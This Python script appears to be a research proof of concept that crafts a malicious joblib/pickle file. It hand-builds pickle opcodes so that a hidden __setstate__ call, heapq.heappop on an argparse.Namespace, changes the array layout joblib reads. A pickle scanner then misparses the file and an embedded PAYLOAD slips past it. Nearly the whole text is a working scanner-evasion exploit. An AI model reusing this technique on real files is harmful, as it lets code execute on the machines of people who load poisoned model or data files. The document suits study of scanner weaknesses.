# A hidden call: BUILD on an ordinary object X (argparse.Namespace(), not a wrapper) with the slot
# state {'__setstate__': F} stores F as an instance attribute; pickle's load_build looks
# __setstate__ up with getattr, so a second BUILD on X with state L runs F(L). With
# F = heapq.heappop and L = the wrapper's shape list [2, 200], L becomes [200]: joblib reads 200
# array bytes, the scanner (which records BUILDs as state, not calls) lays out 400.
import sys
from common import *
F = sys.argv[1] if len(sys.argv) > 1 else 'heapq:heappop'
m, n = F.split(':')
def BINPUT(i): return b'q'+bytes([i])
def BINGET(i): return b'h'+bytes([i])
hdr = b'\x80\x04' if '.' in n else b'\x80\x02'
hdr += b']' + BINPUT(1) + I(2) + b'a' + I(200) + b'a' + b'0'               # L = [2, 200]
hdr += G('argparse','Namespace') + b')R' + b'N}' + U('__setstate__') + G(m, n) + b's\x86b'
hdr += BINGET(1) + b'b0'                                                  # X.__setstate__(L)
hdr += G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + BINGET(1) + U('C') + dtype('u1') + b'\x89NtR}b'
tail = b'0' + PAYLOAD + b'.'
arr = bytearray(400); arr[200:200+len(tail)] = tail
arr[0:5] = T(400-5)
run(sys.argv[2] if len(sys.argv) > 2 else 'd1_setstate_attr_call.joblib', hdr + bytes(arr) + b'.')
